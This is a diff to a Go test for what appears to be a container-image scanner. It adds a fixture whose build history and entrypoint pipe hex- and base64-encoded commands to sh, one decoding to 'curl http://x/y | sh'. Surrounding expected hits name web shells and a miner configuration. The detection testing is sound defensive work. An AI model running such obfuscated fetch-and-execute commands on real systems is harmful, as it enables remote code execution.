@@ -298,6 +298,15 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		hit{rule: "web-shell", path: "/var/www/html/uploads/img.php", layer: 1},
 		hit{rule: "web-shell", path: "/usr/local/tomcat/webapps/ROOT/cmd.jsp", layer: 1},
 		hit{rule: "miner-configuration", path: "/opt/svc/config.json", layer: 1})
+
+	// Decoded data piped to a shell, in a build step (hex) and in the
+	// entrypoint (base64); decoding to a file and printf of text are not.
+	decode := img("test/decode", layerOf(t, ent{name: "opt/k.b64", body: "a2V5Cg==\n"}))
+	decode.history = []string{"", "/bin/sh -c echo 6375726c202d73 | xxd -r -p | sh && base64 -d /opt/k.b64 > /opt/k && printf 'hi\\n' | tee /etc/motd"}
+	decode.config = func(cf *v1.ConfigFile) {
+		cf.Config.Entrypoint = []string{"/bin/sh", "-c", "echo Y3VybCBodHRwOi8veC95IHwgc2g= | base64 -d | sh"}
+	}
+	add(decode, hit{rule: "history-suspicious-command", layer: 1}, hit{rule: "config-decode-to-shell", layer: -1})
 	return imgs, want
 }
 
